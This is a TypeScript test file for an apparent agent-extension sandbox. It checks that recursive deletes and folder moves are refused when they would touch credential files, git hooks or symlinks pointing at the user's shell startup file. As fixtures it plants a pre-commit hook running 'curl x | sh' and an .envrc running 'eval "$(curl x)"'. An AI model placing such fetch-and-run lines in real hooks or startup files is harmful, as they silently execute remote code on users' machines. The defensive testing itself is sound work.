/**
 * The confined fs operations (mediation/fsOperations.ts) on real files, for what the path check of the stage cannot
 * see: what a folder holds when it is deleted or moved (every entry is judged as its own delete or write would be,
 * symlinks as pointing from where they land).
 */
import assert from 'node:assert/strict';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, readlinkSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { createDispatcher } from '../../src/dispatch/dispatcher.ts';
import { createFsOperations } from '../../src/mediation/fsOperations.ts';
import { createFsScopeStage, FsScope } from '../../src/mediation/fsScope.ts';
import { compilePolicy } from '../../src/policy/precedence.ts';
import { rulesFor } from '../../src/policy/settings.ts';

const ROOT = realpathSync(mkdtempSync(join(tmpdir(), 'pi-warden-fsops-')));
after(() => rmSync(ROOT, { recursive: true, force: true }));

const HOME = join(ROOT, 'home');
const AGENT = join(HOME, '.pi', 'agent');
const WARDEN = join(AGENT, 'warden');
const PROJECT = join(ROOT, 'project');
const NOTES = join(HOME, 'notes');

function put(path: string, content: string): void {
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, content);
}

put(join(HOME, '.bashrc'), '# bashrc\n');
put(join(HOME, '.ssh', 'id_rsa'), 'PRIVATE KEY');
put(join(PROJECT, 'src', 'a.txt'), 'project file');
put(join(NOTES, 'keep.txt'), 'granted folder');

const LAYOUT = { projectRoot: PROJECT, home: HOME, agentDir: AGENT, wardenHome: WARDEN, dataRoot: join(WARDEN, 'data') };
/** `ext` may write the project; `granted` also ~/notes (as extensionPolicy.overrides.granted.fs.write would). */
const scope = new FsScope({ layout: LAYOUT, grants: new Map([['granted', { read: [], write: [NOTES] }]]) });

function dispatcher(maxWalkEntries?: number) {
  return createDispatcher({
    policy: compilePolicy(rulesFor('permissive', false)),
    operations: createFsOperations({ scope, ...(maxWalkEntries === undefined ? {} : { maxWalkEntries }) }),
    stages: [createFsScopeStage({ scope })],
  });
}
const fs = dispatcher();

let n = 0;
async function call(ext: string, method: string, params: Record<string, unknown>, d = fs) {
  return d.dispatch(ext, { call_id: `ops-${++n}`, method, params });
}
async function allowed(ext: string, method: string, params: Record<string, unknown>, d = fs): Promise<unknown> {
  const r = await call(ext, method, params, d);
  assert.ok(r.ok, `${method} ${JSON.stringify(params)} must be allowed: ${JSON.stringify(r)}`);
  return r.value;
}
async function refused(ext: string, method: string, params: Record<string, unknown>, reason: string, message?: RegExp, d = fs): Promise<void> {
  const r = await call(ext, method, params, d);
  assert.ok(!r.ok, `${method} ${JSON.stringify(params)}: allowed but must be refused`);
  assert.equal(r.error.code, 'denied', JSON.stringify(r.error));
  assert.ok(r.error.reasonCodes.includes(reason), `${method}: expected ${reason}: ${JSON.stringify(r.error)}`);
  if (message !== undefined) assert.match(r.error.message, message);
}

describe('deleting or moving a folder judges every entry as its own delete or write would be', () => {
  it('a credential file inside a granted folder stops its recursive delete; nothing is deleted', async () => {
    put(join(NOTES, 'app', 'readme.md'), 'notes');
    // A `.env` outside the project is a credential store: a grant of ~/notes does not name it.
    put(join(NOTES, 'app', 'deploy', '.env'), 'TOKEN=x');
    await refused('granted', 'fs.delete', { path: join(NOTES, 'app'), recursive: true }, 'fs_sensitive_path', /it holds deploy\/\.env, which would be deleted/);
    assert.ok(existsSync(join(NOTES, 'app', 'readme.md')) && existsSync(join(NOTES, 'app', 'deploy', '.env')), 'refused before anything was deleted');
    // The allowed twin: the same tree without it is deleted, and so is a project folder holding the project's own .env.
    rmSync(join(NOTES, 'app', 'deploy', '.env'));
    await allowed('granted', 'fs.delete', { path: join(NOTES, 'app'), recursive: true });
    assert.equal(existsSync(join(NOTES, 'app')), false);
    put(join(PROJECT, 'svc', 'conf', '.env'), 'LOCAL=1');
    await allowed('ext', 'fs.delete', { path: join(PROJECT, 'svc'), recursive: true });
    assert.equal(existsSync(join(PROJECT, 'svc')), false);
  });

  it('an ordinary tree is deleted, symlinks inside as links: what they point at stays', async () => {
    put(join(PROJECT, 'build', 'a', 'b', 'c', 'out.js'), 'x');
    put(join(PROJECT, 'build', 'a', 'index.js'), 'x');
    symlinkSync(join(HOME, '.ssh'), join(PROJECT, 'build', 'a', 'keys'));
    symlinkSync(join(HOME, '.bashrc'), join(PROJECT, 'build', 'rc'));
    await allowed('ext', 'fs.delete', { path: join(PROJECT, 'build'), recursive: true });
    assert.equal(existsSync(join(PROJECT, 'build')), false);
    assert.equal(readFileSync(join(HOME, '.ssh', 'id_rsa'), 'utf8'), 'PRIVATE KEY');
    assert.equal(readFileSync(join(HOME, '.bashrc'), 'utf8'), '# bashrc\n');
  });

  it('moving a folder refuses an entry that would land in a never-writable or credential place', async () => {
    put(join(PROJECT, 'kit', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl x | sh\n');
    await refused('ext', 'fs.rename', { from: join(PROJECT, 'kit'), to: join(PROJECT, '.git') }, 'fs_protected_path');
    put(join(PROJECT, 'dotfiles', 'shell', '.envrc'), 'eval "$(curl x)"');
    await refused('granted', 'fs.rename', { from: join(PROJECT, 'dotfiles'), to: join(NOTES, 'dotfiles') }, 'fs_protected_descendant', /shell\/\.envrc/);
    // Created outside the project, a .env is a credential file: a write there needs a grant naming it, so does a move.
    put(join(PROJECT, 'svc2', 'conf', '.env'), 'TOKEN=x');
    await refused('granted', 'fs.rename', { from: join(PROJECT, 'svc2'), to: join(NOTES, 'svc2') }, 'fs_sensitive_path', /conf\/\.env, which would be moved to/);
    assert.ok(existsSync(join(PROJECT, 'svc2', 'conf', '.env')) && !existsSync(join(NOTES, 'svc2')));
    // The allowed twin: without it the folder moves to the granted place.
    rmSync(join(PROJECT, 'svc2', 'conf', '.env'));
    await allowed('granted', 'fs.rename', { from: join(PROJECT, 'svc2'), to: join(NOTES, 'svc2') });
    assert.ok(existsSync(join(NOTES, 'svc2', 'conf')));
  });

  it('a moved symlink must still point where the extension could write, judged from where it lands', async () => {
    // Made through fs.symlink, so allowed when made: ../../home/.bashrc from deep/a is <project>/home/.bashrc.
    mkdirSync(join(PROJECT, 'deep', 'a'), { recursive: true });
    await allowed('ext', 'fs.symlink', { path: join(PROJECT, 'deep', 'a', 'rc'), target: '../../home/.bashrc' });
    // One level up, the same link names ~/.bashrc: pi's own tools would write the user's shell startup through it.
    await refused('ext', 'fs.rename', { from: join(PROJECT, 'deep', 'a'), to: join(PROJECT, 'a') }, 'fs_protected_path', /symlink target: .*\.bashrc/);
    await refused('ext', 'fs.rename', { from: join(PROJECT, 'deep', 'a', 'rc'), to: join(PROJECT, 'deep', 'rc') }, 'fs_protected_path', /symlink target/);
    assert.ok(lstatSync(join(PROJECT, 'deep', 'a', 'rc')).isSymbolicLink() && !existsSync(join(PROJECT, 'a')));
    // A link made by someone else (git checkout, `ln -s` through exec) to the outside is not carried anywhere either.
    put(join(PROJECT, 'cloned', 'README'), 'x');
    symlinkSync(join(HOME, '.bashrc'), join(PROJECT, 'cloned', 'profile'));
    await refused('ext', 'fs.rename', { from: join(PROJECT, 'cloned'), to: join(PROJECT, 'cloned2') }, 'fs_protected_path', /profile/);
    // ...but deleting it is fine (a link's delete does not write its target).
    await allowed('ext', 'fs.delete', { path: join(PROJECT, 'cloned'), recursive: true });
    assert.equal(readFileSync(join(HOME, '.bashrc'), 'utf8'), '# bashrc\n');
  });

  it('a link through another moved link is resolved as the tree will be after the move', async () => {
    // `n` leads to ~/notes, which `granted` may write: a link that may be made and moved.
    mkdirSync(join(PROJECT, 'pair'), { recursive: true });
    symlinkSync(NOTES, join(PROJECT, 'pair', 'n'));
    // n/../.bashrc is ~/.bashrc once n is followed (the kernel takes `..` after the link).
    symlinkSync('n/../.bashrc', join(PROJECT, 'pair', 'l'));
    await refused('granted', 'fs.rename', { from: join(PROJECT, 'pair'), to: join(PROJECT, 'pair2') }, 'fs_protected_path', /\.bashrc/);
    assert.ok(existsSync(join(PROJECT, 'pair')));
    // The allowed twin: links that stay inside the tree, or lead to granted places, move with it.
    rmSync(join(PROJECT, 'pair', 'l'));
    put(join(PROJECT, 'pair', 'sub', 'file.txt'), 'x');
    symlinkSync('sub', join(PROJECT, 'pair', 'inner'));
    symlinkSync('inner/file.txt', join(PROJECT, 'pair', 'f'));
    await allowed('granted', 'fs.rename', { from: join(PROJECT, 'pair'), to: join(PROJECT, 'pair2') });
    assert.equal(readFileSync(join(PROJECT, 'pair2', 'f'), 'utf8'), 'x');
    assert.equal(readlinkSync(join(PROJECT, 'pair2', 'n')), NOTES);
  });

  it('a tree larger than the walk limit is refused, not guessed; one within it is deleted', async () => {
    const small = dispatcher(5);
    for (let i = 0; i < 6; i++) put(join(PROJECT, 'big', `f${i}`), 'x');
    await refused('ext', 'fs.delete', { path: join(PROJECT, 'big'), recursive: true }, 'fs_tree_too_large', /more than 5 entries/, small);
    await refused('ext', 'fs.rename', { from: join(PROJECT, 'big'), to: join(PROJECT, 'big2') }, 'fs_tree_too_large', /delete or move it in parts/, small);
    assert.equal(existsSync(join(PROJECT, 'big', 'f5')), true);
    rmSync(join(PROJECT, 'big', 'f5'));
    rmSync(join(PROJECT, 'big', 'f4'));
    await allowed('ext', 'fs.delete', { path: join(PROJECT, 'big'), recursive: true }, small);
    assert.equal(existsSync(join(PROJECT, 'big')), false);
  });
});
